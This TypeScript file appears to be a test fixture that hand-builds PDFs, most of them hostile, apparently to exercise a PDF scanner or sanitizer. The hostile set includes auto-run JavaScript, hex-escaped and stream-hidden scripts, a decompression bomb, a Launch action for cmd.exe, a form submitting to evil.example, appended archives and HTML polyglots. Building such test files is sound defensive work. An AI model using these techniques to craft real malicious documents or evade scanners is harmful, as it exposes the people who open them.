// PDFs made by hand, good and bad. Each is whole and correct but for the one thing it is about.
import { deflateSync } from 'node:zlib';

type Pdf = {
  /** Entries of the catalogue beside its pages. */
  catalogue?: string;
  /** Further objects, numbered from 4. */
  objects?: (string | Buffer)[];
  trailer?: string;
  header?: string;
};

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>';

export function makePdf({ catalogue = '', objects = [], trailer = '', header = '%PDF-1.7\n' }: Pdf = {}) {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page,
    ...objects,
  ];
  const parts = [Buffer.from(header, 'latin1')];
  const offsets: number[] = [];
  let at = header.length;
  const add = (part: Buffer<ArrayBuffer>) => {
    parts.push(part);
    at += part.length;
  };
  for (const [index, object] of all.entries()) {
    offsets.push(at);
    add(
      Buffer.concat([
        Buffer.from(`${index + 1} 0 obj\n`),
        Buffer.from(object as string, 'latin1'),
        Buffer.from('\nendobj\n'),
      ]),
    );
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const table = `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}`;
  const end = `trailer\n<< /Size ${all.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`;
  add(Buffer.from(table + end, 'latin1'));
  return Buffer.concat(parts);
}

/** Objects in a compressed stream, as newer programs write them. */
export function objectStream(content: string, { filter = '/FlateDecode', more = '', type = '/Type /ObjStm' } = {}) {
  const body = deflateSync(Buffer.from(`10 0 ${content}`, 'latin1'));
  const dictionary = `<< ${type} /N 1 /First 5 ${filter ? `/Filter ${filter}` : ''} /Length ${body.length} ${more}>>`;
  return Buffer.concat([Buffer.from(`${dictionary}\nstream\n`), body, Buffer.from('\nendstream')]);
}

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

export const hostileDocuments: Record<string, () => Buffer> = {
  'PDF that runs a script when opened': () => makePdf({ catalogue: `/OpenAction ${script}` }),
  'PDF with scripts by name': () =>
    makePdf({ catalogue: '/Names << /JavaScript 4 0 R >>', objects: [`<< /Names [(a) ${script}] >>`] }),
  'PDF with a script under an escaped name': () =>
    makePdf({ catalogue: '/OpenAction << /S /J#61va#53cript /JS (x) >>' }),
  'PDF with a script in a compressed stream': () => makePdf({ objects: [objectStream(script)] }),
  'PDF with a script in a compressed stream of no type': () =>
    makePdf({ objects: [objectStream(script, { type: '' })] }),
  'PDF with a script in a doubly packed stream': () =>
    makePdf({ objects: [objectStream(script, { filter: '[/ASCIIHexDecode /FlateDecode]' })] }),
  'PDF with a stream that unpacks without end': () =>
    makePdf({ objects: [objectStream(' '.repeat(80 * 1024 * 1024))] }),
  'PDF that starts a program': () => makePdf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  'PDF with a file inside': () =>
    makePdf({ objects: ['<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream', '<< /EF << /F 4 0 R >> >>'] }),
  'PDF with a list of files inside': () => makePdf({ catalogue: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
  'PDF with a form that sends': () =>
    makePdf({ catalogue: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
  'PDF with a form in XML': () => makePdf({ catalogue: '/AcroForm << /XFA 4 0 R >>' }),
  'PDF with a player': () => makePdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }),
  'PDF with a password': () => makePdf({ trailer: '/Encrypt << /Filter /Standard /V 1 >>' }),
  'PDF cut in half': () => makePdf({ objects: ['<< /A 1 >>'] }).subarray(0, 200),
  'PDF without an end': () => Buffer.from(makePdf().toString('latin1').replace('%%EOF', ''), 'latin1'),
  'PDF whose table is elsewhere': () =>
    Buffer.from(
      makePdf()
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n7'),
      'latin1',
    ),
  'PDF with an archive behind it': () => Buffer.concat([makePdf(), Buffer.from('PK\x03\x04'), Buffer.alloc(3000, 7)]),
  'PDF in name only': () => Buffer.from('%PDF-1.7\n<script>alert(1)</script>'),
  'PDF behind a page': () => makePdf({ header: '<script>alert(1)</script>\n%PDF-1.7\n' }),
  'PDF of a version there is not': () => makePdf({ header: '%PDF-9.9\n' }),
};
